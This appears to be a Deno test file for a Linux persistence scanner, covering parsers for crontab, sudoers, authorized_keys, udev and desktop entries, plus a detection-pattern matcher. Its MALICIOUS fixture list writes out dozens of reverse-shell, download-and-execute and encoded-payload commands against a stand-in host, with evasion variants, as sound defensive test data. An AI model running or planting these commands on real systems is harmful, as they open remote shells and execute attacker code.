import assert from "node:assert/strict";
import {
  type Accounts,
  parseGroup,
  parsePasswd,
  ROOT_ACCOUNT,
} from "../../src/scanners/persistence/accounts.ts";
import { pathRisk } from "../../src/scanners/persistence/assess.ts";
import { Host } from "../../src/host/host.ts";
import { makeTree } from "../helpers.ts";
import { parseAuthorizedKeys } from "../../src/scanners/ssh/authorized_keys.ts";
import {
  cronPercent,
  parseAnacrontab,
  parseCrontab,
  scriptLines,
} from "../../src/scanners/persistence/cron.ts";
import { parseDesktopEntry } from "../../src/scanners/persistence/desktop.ts";
import { matchPatterns } from "../../src/scanners/persistence/patterns.ts";
import { executedPaths } from "../../src/scanners/persistence/shell_words.ts";
import { expandAliases, isUnrestricted, parseSudoers } from "../../src/scanners/persistence/sudoers.ts";
import { parseUdevRules } from "../../src/scanners/persistence/udev.ts";
import { ED25519 } from "./persistence_fixtures.ts";

Deno.test("cron: system format keeps the user field, @keywords, % as stdin newline", () => {
  const t = parseCrontab(
    [
      "SHELL=/bin/sh",
      "# comment",
      "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly",
      "@reboot bob /home/bob/start.sh",
      "0 0 * * mon-fri root echo a\\%b % input",
      'MAILTO = "ops@example.org"',
    ].join("\n"),
    true,
  );
  assert.equal(t.bad, 0);
  assert.deepEqual(t.env, { SHELL: "/bin/sh", MAILTO: "ops@example.org" });
  assert.deepEqual(t.envLines, { SHELL: 1, MAILTO: 6 });
  assert.deepEqual(t.entries.map((e) => [e.line, e.schedule, e.user, e.command]), [
    [3, "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly"],
    [4, "@reboot", "bob", "/home/bob/start.sh"],
    [5, "0 0 * * mon-fri", "root", "echo a%b \n input"],
  ]);
});

Deno.test("cron: user format has no user field; garbage, truncated and empty input are counted, not thrown", () => {
  const u = parseCrontab("*/5 * * * * /usr/bin/backup --quiet\n", false);
  assert.deepEqual(u.entries.map((e) => [e.user, e.command]), [[undefined, "/usr/bin/backup --quiet"]]);
  assert.deepEqual(parseCrontab("", true), { entries: [], env: {}, envLines: {}, bad: 0 });
  const g = parseCrontab("@sometimes root x\n* * *\n\u0000\u0001 garbage ]]\n1 2 3 4 5 root\n", true);
  assert.equal(g.entries.length, 0);
  assert.equal(g.bad, 4);
  assert.equal(cronPercent("a\\%b%c"), "a%b\nc");
});

Deno.test("anacrontab: period delay id command", () => {
  const t = parseAnacrontab(
    "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 m cmd\nbad line\n",
  );
  assert.deepEqual(t.entries.map((e) => e.command), ["run-parts --report /etc/cron.daily", "cmd"]);
  assert.equal(t.bad, 1);
});

Deno.test("scriptLines joins continuations as the shell does and drops comments and blanks", () => {
  assert.deepEqual(scriptLines("#!/bin/sh\n\nfoo \\\n  bar\n  # c\nbaz\ntrailing \\"), [
    { line: 3, text: "foo   bar" },
    { line: 6, text: "baz" },
    { line: 7, text: "trailing" },
  ]);
  // The backslash and the newline are removed, nothing put in their place: a word split over lines is one word.
  assert.deepEqual(scriptLines("bash -i >& /dev/tcp/203.0.113.5/\\\n4444 0>&1\n"), [
    { line: 1, text: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1" },
  ]);
  // An even run of backslashes is escaped backslashes, not a continuation; an odd one continues.
  assert.deepEqual(scriptLines("a \\\\\nb \\\\\\\nc\n\\\nd"), [
    { line: 1, text: "a \\\\" },
    { line: 2, text: "b \\\\c" },
    { line: 4, text: "d" },
  ]);
});

Deno.test("executedPaths: command words and interpreter scripts, not arguments or redirections", () => {
  assert.deepEqual(
    executedPaths("test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"),
    [],
  );
  assert.deepEqual(executedPaths("[ -x /usr/bin/tput ] && tput setaf 1 >&/dev/null"), []);
  assert.deepEqual(executedPaths("/usr/lib/x/helper 2>&1 >/tmp/log | /usr/bin/logger"), [
    "/usr/lib/x/helper",
    "/usr/bin/logger",
  ]);
  assert.deepEqual(executedPaths("FOO=1 nohup /bin/bash /tmp/.x/run.sh &"), ["/bin/bash", "/tmp/.x/run.sh"]);
  assert.deepEqual(executedPaths("sudo -n python3 /home/bob/x.py"), ["/home/bob/x.py"]);
  assert.deepEqual(executedPaths("timeout 10 /var/tmp/miner -o pool"), ["/var/tmp/miner"]);
  // A wrapper's numeric argument (a nice level, a CPU mask) is not the command.
  assert.deepEqual(executedPaths("nice -n 5 /var/tmp/miner"), ["/var/tmp/miner"]);
  assert.deepEqual(executedPaths("taskset 0x3 chrt -f 10 /var/tmp/miner"), ["/var/tmp/miner"]);
  assert.deepEqual(executedPaths("fish /tmp/.x/run.fish"), ["/tmp/.x/run.fish"]);
  assert.deepEqual(executedPaths(". /etc/bash_completion"), ["/etc/bash_completion"]);
  assert.deepEqual(executedPaths('echo "$(/dev/shm/x)"'), ["/dev/shm/x"]);
  assert.deepEqual(executedPaths("find /tmp/ -mtime +7 -delete"), []);
  // A brace group's first word is a command word, as after `if` or `!`.
  assert.deepEqual(executedPaths("true && { /dev/shm/.x/run; }"), ["/dev/shm/.x/run"]);
  assert.deepEqual(executedPaths("if ! /tmp/a; then /tmp/b; fi"), ["/tmp/a", "/tmp/b"]);
  assert.deepEqual(executedPaths(""), []);
});

const STOCK_LINES = [
  "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
  '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"',
  'test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"',
  "start-stop-daemon --start --pidfile /dev/null --startas /usr/bin/mandb --oknodo --chuid man $iosched_idle -- --quiet",
  "/usr/sbin/logrotate /etc/logrotate.conf",
  "nc -zv db.internal 5432",
  "rsync -e ssh -a /srv/ backup:/srv/",
  "curl -fsS https://example.org/health | sha256sum",
  'ENV{DM_COOKIE}=="?*", RUN+="/sbin/dmsetup udevcomplete $env{DM_COOKIE}"',
  "/bin/sh -c 'echo 1 > /sys/class/x/power'",
  "debian ALL=(ALL) NOPASSWD:ALL",
  // Near misses of the evasion patterns below: a fetch saved and checked (not run), text translated or reversed
  // into a pager, a socket used without a process, the shell's name printed.
  "curl -fsSo /var/lib/app/feed.xml https://example.org/feed && sha256sum /var/lib/app/feed.xml",
  "wget -qO /var/cache/x.tar.gz https://example.org/x.tar.gz; tar -C /opt -xzf /var/cache/x.tar.gz",
  "hostname | tr a-z A-Z | logger",
  "cat /var/log/app.log | rev | less",
  "python3 -c 'import socket; print(socket.gethostname())'",
  'echo "$SHELL" > /run/user-shell',
  "/usr/bin/env bash /usr/local/sbin/rotate-logs",
];

Deno.test("patterns: stock lines match nothing", () => {
  for (const line of STOCK_LINES) assert.deepEqual(matchPatterns(line), [], line);
});

const MALICIOUS: [string, string][] = [
  ["bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "reverse_shell"],
  ["exec 5<>/dev/udp/203.0.113.5/53", "reverse_shell"],
  ["nc -e /bin/sh 203.0.113.5 4444", "reverse_shell"],
  ["/bin/sh -c 'nc -e /bin/sh 203.0.113.5 1'", "reverse_shell"],
  ["/usr/bin/ncat 203.0.113.5 443 -e /bin/bash", "reverse_shell"],
  ["socat TCP:203.0.113.5:443 EXEC:/bin/bash,pty,stderr", "reverse_shell"],
  ["python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "reverse_shell"],
  ["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f", "reverse_shell"],
  [
    "python -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.5\",1));os.dup2(s.fileno(),0)'",
    "reverse_shell",
  ],
  [
    "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);exec(\"/bin/sh -i\")'",
    "reverse_shell",
  ],
  ['php -r \'$s=fsockopen("203.0.113.5",1);exec("/bin/sh -i <&3 >&3");\'', "reverse_shell"],
  ["openssl s_client -quiet -connect 203.0.113.5:443 | /bin/sh", "reverse_shell"],
  ['ruby -rsocket -e\'spawn("sh",[:in,:out,:err]=>TCPSocket.new("203.0.113.5",4242))\'', "reverse_shell"],
  [
    "lua -e \"require('socket');t=socket.tcp();t:connect('203.0.113.5','1');os.execute('sh -i <&3 >&3')\"",
    "reverse_shell",
  ],
  [
    'node -e \'var net=require("net"),cp=require("child_process"),sh=cp.spawn("sh",[]);new net.Socket()\'',
    "reverse_shell",
  ],
  [
    "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    "reverse_shell",
  ],
  ["busybox nc 203.0.113.5 4242 -e sh", "reverse_shell"],
  ["0<&196;exec 196<>/dev/tcp/203.0.113.5/4242; sh <&196 >&196 2>&196", "reverse_shell"],
  ["perl -MLWP::Simple -e 'getprint \"http://203.0.113.5/x\"' | sh", "download_exec"],
  ["perl -MLWP::Simple -e 'eval get(\"http://203.0.113.5/x\")'", "download_exec"],
  ["php -r \"eval(file_get_contents('http://203.0.113.5/x'));\"", "download_exec"],
  ["(curl -fsSL http://203.0.113.5/x||wget -q -O- http://203.0.113.5/x)|sh", "download_exec"],
  ["printf '\\x62\\x61\\x73\\x68\\x20\\x2d\\x69\\x20\\x3e' | sh", "encoded_payload"],
  ["curl -fsSL http://203.0.113.5/x.sh | sh", "download_exec"],
  ["wget -q -O- http://203.0.113.5/i | sudo bash", "download_exec"],
  ["bash <(curl -s http://203.0.113.5/x)", "download_exec"],
  ['eval "$(wget -qO- http://203.0.113.5/x)"', "download_exec"],
  ["cd /tmp && wget http://203.0.113.5/k -O k && chmod +x k && ./k", "download_exec"],
  [
    "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://203.0.113.5/p').read())\"",
    "download_exec",
  ],
  ["echo ZWNobyBoaQ== | base64 -d | bash", "encoded_payload"],
  ['eval "$(echo ZWNobyBoaQ== | base64 --decode)"', "encoded_payload"],
  ["python -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"", "encoded_payload"],
  [`echo ${"QUJD".repeat(40)} | sh`, "encoded_payload"],
  // Evasions of the patterns above: wrappers, quotes and variables before the interpreter, decoders spelled
  // otherwise, ports by name or variable, long options, a fetch saved then run.
  ["curl -fsSL http://203.0.113.5/x | env bash", "download_exec"],
  ["curl -fsSL http://203.0.113.5/x | /usr/bin/env -i bash", "download_exec"],
  ["curl -fsSL http://203.0.113.5/x | $SHELL", "download_exec"],
  ['curl -fsSL http://203.0.113.5/x | "bash"', "download_exec"],
  ["wget -qO- http://203.0.113.5/x | busybox sh", "download_exec"],
  ["curl -so /usr/local/bin/upd http://203.0.113.5/x && /usr/local/bin/upd", "download_exec"],
  ["wget --output-document=/var/lib/u http://203.0.113.5/x; sh /var/lib/u", "download_exec"],
  ["echo YmFzaCAtaQo= | base64 -di | bash", "encoded_payload"],
  ["echo YmFzaCAtaQo= | base64 --d | bash", "encoded_payload"],
  ["echo '1&>0 4444/5.311.0.302/pct/ved/ >& i- hsab' | rev | bash", "encoded_payload"],
  ["echo 'onfu -v' | tr a-z n-za-m | bash", "encoded_payload"],
  ['P=4444; bash -c "bash -i >& /dev/tcp/203.0.113.5/$P 0>&1"', "reverse_shell"],
  ["bash -i >& /dev/tcp/c2.example.net/https 0>&1", "reverse_shell"],
  [
    'python3 -c \'import socket,subprocess;s=socket.create_connection(("203.0.113.5",4444));' +
    'subprocess.call(["/bin/sh","-i"],stdin=s,stdout=s)\'',
    "reverse_shell",
  ],
  ["ncat --ssl 203.0.113.5 4444 --sh-exec /bin/sh", "reverse_shell"],
];

Deno.test("patterns: each malicious line matches its kind", () => {
  for (const [line, kind] of MALICIOUS) {
    const hits = matchPatterns(line);
    assert.ok(hits.some((h) => h.kind === kind), `${line} → ${JSON.stringify(hits)}`);
  }
});

Deno.test("patterns: a 256 KiB line of any pattern's words is matched in linear time (the line is the attacker's)", () => {
  // Each of these made a backtracking pattern take seconds per 10 KB (a minute for a 40 KB crontab line).
  const words = [
    "openssl base64 ",
    "openssl -d ",
    "curl ",
    "wget -O x ",
    "curl -o a ",
    "; a ",
    "nc ",
    "ncat -x ",
    "mkfifo ",
    "sh -i ",
    "socat ",
    "socket ",
    "use Socket ",
    "fsockopen(",
    "python ",
    "base64 -a ",
    "| env ",
    "| tr -x ",
    "/dev/tcp/a/",
    "\\x41",
    "A",
    // Runs of separators and path characters: `(?:\S*/)?` after `\|` scanned to the end of a run of pipes from
    // each of them (a 64 KiB crontab line of `|` stopped the whole persistence scanner).
    "|",
    "||",
    ";",
    "&&",
    "/",
    "a/",
    "|a/",
    "<(",
    "$(",
    "-M!",
  ];
  for (const w of [...words, "curl |", "mkfifo x; |", "openssl s_client |", "bash -i |"]) {
    // A prefixed word is written once, then its last character repeated: `curl ` and 256 KiB of `|`.
    const line = w.length > 3 && !words.includes(w)
      ? w + w.at(-1)!.repeat(256 << 10)
      : w.repeat(Math.ceil((256 << 10) / w.length));
    const t0 = performance.now();
    matchPatterns(line);
    const ms = performance.now() - t0;
    assert.ok(ms < 2000, `${JSON.stringify(w)} × ${line.length / w.length}: ${ms.toFixed(0)} ms`);
  }
});

Deno.test("sudoers: env_keep of a variable that runs code, and setenv, are kept; RHEL's stock env_keep is not", () => {
  const s = parseSudoers(
    [
      // RHEL's stock Defaults: nothing that runs code.
      'Defaults    env_keep =  "COLORS DISPLAY HOSTNAME HISTSIZE KDEDIR LS_COLORS"',
      'Defaults    env_keep += "MAIL PS1 PS2 QTDIR USERNAME LANG LC_ADDRESS LC_CTYPE"',
      "Defaults    env_reset",
      'Defaults env_keep += "LD_PRELOAD"',
      "Defaults:bob env_keep+=PYTHONPATH, !lecture",
      'Defaults env_keep -= "HOME"',
      "Defaults setenv",
      "Defaults !setenv",
      'Defaults env_keep="BASH_ENV=x TERM"',
      'Defaults env_keep += "LD_* PYTHON*"',
      'Defaults env_keep += "LC_* XDG_*"',
    ].join("\n"),
  );
  assert.deepEqual(s.envDefaults.map((d) => [d.line, d.kept]), [
    [4, ["LD_PRELOAD"]],
    [5, ["PYTHONPATH"]],
    [7, []],
    [9, ["BASH_ENV"]],
    [10, ["LD_*", "PYTHON*"]],
  ]);
  assert.deepEqual(parseSudoers("Defaults env_keep\nDefaults env_keep +=\n").envDefaults, []);
});

Deno.test("sudoers: rules, tags carried over, runas, aliases, includes, continuation, comments", () => {
  const s = parseSudoers(
    [
      "Defaults\tenv_reset",
      "Defaults:bob !authenticate",
      "User_Alias OPS = alice, \\",
      "  carol",
      "Cmnd_Alias SHELLS = /bin/bash, /bin/sh",
      "root\tALL=(ALL:ALL) ALL",
      "%sudo\tALL=(ALL:ALL) ALL # admins",
      "OPS ALL = (root) NOPASSWD: /usr/bin/systemctl restart nginx, SHELLS",
      "#1001 ALL=(ALL) PASSWD: /bin/ls, NOPASSWD: /bin/cat",
      "@includedir /etc/sudoers.d",
      "#include /etc/sudoers.local",
      "this is not a rule",
    ].join("\n"),
  );
  assert.deepEqual(s.includes.map((i) => [i.dir, i.path]), [[true, "/etc/sudoers.d"], [
    false,
    "/etc/sudoers.local",
  ]]);
  assert.deepEqual(s.noAuthDefaults.map((d) => d.line), [2]);
  assert.equal(s.bad, 1);
  assert.deepEqual(s.rules.map((r) => r.users), [["root"], ["%sudo"], ["OPS"], ["#1001"]]);
  const ops = s.rules[2];
  assert.deepEqual(ops.commands.map((c) => [c.command, c.runas, c.nopasswd]), [
    ["/usr/bin/systemctl restart nginx", "root", true],
    ["SHELLS", "root", true],
  ]);
  assert.deepEqual(expandAliases(ops.users, s.aliases.get("User_Alias")), ["alice", "carol"]);
  assert.deepEqual(expandAliases(["SHELLS"], s.aliases.get("Cmnd_Alias")), ["/bin/bash", "/bin/sh"]);
  assert.deepEqual(s.rules[3].commands.map((c) => c.nopasswd), [false, true]);
});

Deno.test("sudoers: empty, truncated and garbage input", () => {
  assert.deepEqual(parseSudoers("").rules, []);
  const t = parseSudoers("bob ALL=(ALL) NOPASSWD: /bin/");
  assert.deepEqual(t.rules[0].commands[0].command, "/bin/");
  const g = parseSudoers("\u0000\u00ff ===\n(((\n=\n");
  assert.equal(g.rules.length, 0);
  assert.ok(g.bad >= 2);
  const loop = parseSudoers("User_Alias A = B\nUser_Alias B = A\n");
  assert.ok(expandAliases(["A"], loop.aliases.get("User_Alias")).length > 0);
});

Deno.test("sudoers: what counts as unrestricted", () => {
  for (
    const c of [
      "ALL",
      "/bin/bash",
      "/usr/bin/vim /etc/hosts",
      "/usr/bin/find",
      "/usr/bin/less /var/log/syslog",
      "/usr/bin/tar *",
      "/bin/su",
      "/usr/bin/env",
    ]
  ) {
    assert.ok(isUnrestricted(c), c);
  }
  for (
    const c of [
      "/usr/bin/systemctl restart nginx",
      "/usr/bin/apt-get update",
      "!/bin/sh",
      "/usr/bin/find /srv -name x",
      "/bin/su - postgres",
      "/usr/bin/docker ps",
    ]
  ) {
    assert.ok(!isUnrestricted(c), c);
  }
});

Deno.test("authorized_keys: options with quotes, fingerprints like ssh-keygen, bad lines counted", () => {
  const text = [
    "# comment",
    `ssh-ed25519 ${ED25519} alice@laptop`,
    `command="/usr/bin/rrsync -ro \\"/srv\\"",no-pty,from="10.0.0.0/8" ssh-ed25519 ${ED25519} backup`,
    "ssh-rsa not-base64!! x",
    `ssh-rsa ${ED25519} wrong-type-in-blob`,
    'command="unterminated ssh-ed25519 AAAA',
    "",
  ].join("\n");
  const k = parseAuthorizedKeys(text);
  assert.equal(k.bad, 3);
  assert.equal(k.keys.length, 2);
  assert.equal(k.keys[0].fingerprint, k.keys[1].fingerprint);
  assert.match(k.keys[0].fingerprint, /^SHA256:[A-Za-z0-9+/]{43}$/);
  assert.deepEqual(k.keys[1].options, [["command", '/usr/bin/rrsync -ro "/srv"'], ["no-pty", ""], [
    "from",
    "10.0.0.0/8",
  ]]);
  assert.deepEqual(parseAuthorizedKeys(""), { keys: [], bad: 0 });
});

Deno.test("authorized_keys: the fingerprint is the one ssh-keygen -lf prints", () => {
  // Known answer taken from `ssh-keygen -lf` (OpenSSH 9.2) for this key.
  assert.equal(
    parseAuthorizedKeys(`ssh-ed25519 ${ED25519} x`).keys[0].fingerprint,
    "SHA256:3Itk2k+36n1W8ICjBqEATNlzg1G1411xJHSKL6U/gGc",
  );
});

Deno.test("desktop entries: Exec without field codes, Hidden and GNOME switches", () => {
  const d = parseDesktopEntry(
    "[Desktop Entry]\nName=x\nExec=/usr/bin/foo --file %f %%\nHidden=false\n[Other]\nExec=/tmp/no\n",
  );
  assert.deepEqual(d, { exec: "/usr/bin/foo --file  %", execLine: 3, disabled: false });
  assert.equal(
    parseDesktopEntry("[Desktop Entry]\nExec=x\nX-GNOME-Autostart-enabled=false\n").disabled,
    true,
  );
  assert.deepEqual(parseDesktopEntry("garbage\n\u0000"), { execLine: 0, disabled: false });
});

Deno.test("udev: RUN, PROGRAM and IMPORT{program}; builtins skipped; relative names resolved", () => {
  const p = parseUdevRules(
    [
      'TAG=="uaccess", ENV{MAJOR}!="", RUN{builtin}+="uaccess"',
      'KERNEL=="rtc0", RUN+="/usr/lib/udev/hwclock-set $root/$name"',
      'SUBSYSTEM=="block", IMPORT{program}="ata_id --export $devnode", \\',
      '  PROGRAM=="scsi_id -g"',
      'ACTION=="add", RUN+="/bin/sh -c \\"echo 1\\""',
      '# RUN+="/tmp/commented"',
      'RUN+=""',
    ].join("\n"),
  );
  assert.deepEqual(p.map((x) => [x.line, x.key, x.command]), [
    [2, "RUN", "/usr/lib/udev/hwclock-set $root/$name"],
    [3, "IMPORT{program}", "/usr/lib/udev/ata_id --export $devnode"],
    [3, "PROGRAM", "/usr/lib/udev/scsi_id -g"],
    [5, "RUN", '/bin/sh -c "echo 1"'],
  ]);
  assert.deepEqual(parseUdevRules(""), []);
});

Deno.test("passwd and group parsers skip malformed lines", () => {
  const p = parsePasswd(
    "root:x:0:0:root:/root:/bin/bash\nbad\nx:x:notanumber:0::/:/bin/sh\n\nbob:x:1000:1000::/home/bob:/bin/zsh\n",
  );
  assert.deepEqual(p.accounts.map((a) => a.name), ["root", "bob"]);
  assert.equal(p.bad, 2);
  assert.deepEqual([...parseGroup("sudo:x:27:bob, alice\nbroken\n").entries()], [["sudo", {
    gid: 27,
    members: ["bob", "alice"],
  }]]);
});

Deno.test("pathRisk: the temporary trees are the project's one list (/run/user, /var/crash, /dev/mqueue too)", () => {
  using t = makeTree({ "usr/bin/true": "x" });
  const host = new Host(t.path);
  const accounts: Accounts = { byName: new Map(), byUid: new Map(), groups: new Map() };
  for (const p of ["/tmp/.x/a", "/run/user/1000/a", "/var/crash/a", "/dev/mqueue/a", "/run/shm/a"]) {
    assert.equal(pathRisk(host, p, ROOT_ACCOUNT, accounts), "temp_dir", p);
  }
  assert.equal(pathRisk(host, "/usr/bin/true", ROOT_ACCOUNT, accounts), undefined);
  assert.equal(pathRisk(host, "/tmpfoo/a", ROOT_ACCOUNT, accounts), undefined);
});
